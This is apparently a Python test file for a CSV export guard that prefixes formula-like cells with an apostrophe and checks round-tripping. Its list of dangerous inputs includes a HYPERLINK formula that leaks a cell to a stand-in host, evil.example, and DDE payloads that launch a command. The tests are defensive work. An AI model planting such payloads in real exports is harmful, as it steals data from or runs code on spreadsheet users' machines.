"""No text of a CSV is a formula, and each comes back as it was."""

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bot.transfer.formulas import guarded, runs, unguarded

DANGEROUS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\tafter a tab",
)
HARMLESS = ("", "patch the print server", "1-2", "it's", "'quoted'", "a=b", "#12", "[x] tick")
NEAR = st.text(alphabet="'=+-@\t\r\n ab\N{FULLWIDTH PLUS SIGN}\x00\N{ZERO WIDTH SPACE}", max_size=6)


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert runs(text)
    assert guarded(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text
    assert unguarded(text) == text


@given(st.text() | NEAR)
@example("'=1")
@example("''=1")
def test_every_text_comes_back_as_it_was(text: str) -> None:
    assert unguarded(guarded(text)) == text


@given(st.text() | NEAR)
def test_no_cell_begins_like_a_formula(text: str) -> None:
    assert guarded(text).lstrip()[:1] not in {"=", "+", "-", "@"}
    assert guarded(text)[:1] not in {"\t", "\r", "\n"}
